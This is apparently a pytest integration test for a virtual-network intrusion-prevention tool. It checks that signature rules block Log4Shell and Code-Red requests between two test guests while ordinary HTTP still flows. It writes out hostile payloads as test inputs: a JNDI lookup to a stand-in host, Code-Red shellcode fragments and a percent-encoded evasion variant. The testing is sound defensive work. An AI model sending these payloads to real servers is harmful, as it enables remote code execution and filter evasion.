"""The signature stage with real guests: examples/signatures.toml on bob's NI (`vhostni run`), bob
serving HTTP with busybox httpd, alice's normal requests answered and her Log4Shell and Code-Red
requests stopped before bob's server sees them.

The guests' LAN is 192.0.2.0/24 (TEST-NET-1); everything lives inside the guests.
"""
from __future__ import annotations

import json
import time
from pathlib import Path

import pytest

from vhostni.testing import VhostUserNic

pytestmark = pytest.mark.guest

REPO = Path(__file__).resolve().parent.parent
LAN = "192.0.2"


def _alerts(path: Path) -> list[dict]:
    try:
        return [json.loads(line) for line in path.read_text().splitlines() if line.strip()]
    except FileNotFoundError:
        return []


def _sid_alerts(path: Path, sid: int) -> list[dict]:
    return [a for a in _alerts(path) if a.get("fields", {}).get("alert", {}).get("signature_id") == sid]


@pytest.fixture(scope="module")
def web(vhostni_daemon_factory, vhostni_guest_factory, vhostni_sockdir, tmp_path_factory):
    work = tmp_path_factory.mktemp("sig")
    text = (REPO / "examples" / "signatures.toml").read_text()
    assert '"10.77.0.1/32"' in text and '"signatures/web.rules"' in text
    text = text.replace('"10.77.0.1/32"', f'"{LAN}.2/32"')
    text = text.replace('"signatures/web.rules"', f'"{REPO / "examples" / "signatures" / "web.rules"}"')
    policy = work / "bob.toml"
    policy.write_text(text)
    alerts = work / "alerts.jsonl"
    socks = {n: str(vhostni_sockdir / f"sig-{n}.sock") for n in ("alice", "bob")}
    daemon = vhostni_daemon_factory(socks, name="sig", extra_args=[
        "--policy", f"bob={policy}", "--alert-log", str(alerts)])
    alice, bob = vhostni_guest_factory.many([
        ("alice", dict(nics=[VhostUserNic(socket=socks["alice"])], ip=f"{LAN}.1/24")),
        ("bob", dict(nics=[VhostUserNic(socket=socks["bob"])], ip=f"{LAN}.2/24")),
    ])
    bob.check("mkdir -p /www && echo 'hello from bob' > /www/index.html && "
              "(pidof httpd >/dev/null || httpd -p 80 -h /www -v -f > /tmp/httpd.log 2>&1 &)")
    return daemon, alice, bob, alerts


def _get(alice, path: str) -> str:
    out, _ = alice.run(f"printf '%s\\r\\nHost: bob\\r\\n\\r\\n' 'GET {path} HTTP/1.0' | timeout 8 nc {LAN}.2 80",
                       timeout=30)
    return out


def test_example_rules_block_exploits_while_normal_requests_flow(web):
    daemon, alice, bob, alerts = web
    for _ in range(20):                                   # ARP and httpd start-up
        if "hello from bob" in _get(alice, "/index.html"):
            break
        time.sleep(0.5)
    assert "hello from bob" in _get(alice, "/index.html")
    out = _get(alice, "/?q=${jndi:ldap://evil.example/a}")
    assert "HTTP/1" not in out                            # no answer: the request never arrived
    deadline = time.monotonic() + 20
    while not _sid_alerts(alerts, 1000004) and time.monotonic() < deadline:
        time.sleep(0.2)
    (a,) = _sid_alerts(alerts, 1000004)
    assert a["fields"]["alert"]["action"] == "blocked" and a["fields"]["dest_port"] == 80
    out = _get(alice, "/default.ida?" + "N" * 224 + "%u9090%u6858%ucbd3%u7801%u9090=a")
    assert "HTTP/1" not in out
    # the same request with its URI %-encoded: no stream rule sees ".ida?", the HTTP rule on
    # the normalised http.uri does
    out = _get(alice, "/default.%69da?" + "N" * 224 + "=a")
    assert "HTTP/1" not in out
    deadline = time.monotonic() + 20
    while not _sid_alerts(alerts, 1000011) and time.monotonic() < deadline:
        time.sleep(0.2)
    (a,) = _sid_alerts(alerts, 1000011)
    assert a["fields"]["http"]["url"].startswith("/default.%69da?")
    log = bob.check("cat /tmp/httpd.log")
    assert "jndi" not in log and ".ida" not in log and "%69da" not in log and "default.i" not in log
    assert "hello from bob" in _get(alice, "/index.html")    # normal traffic still flows
    assert daemon.alive
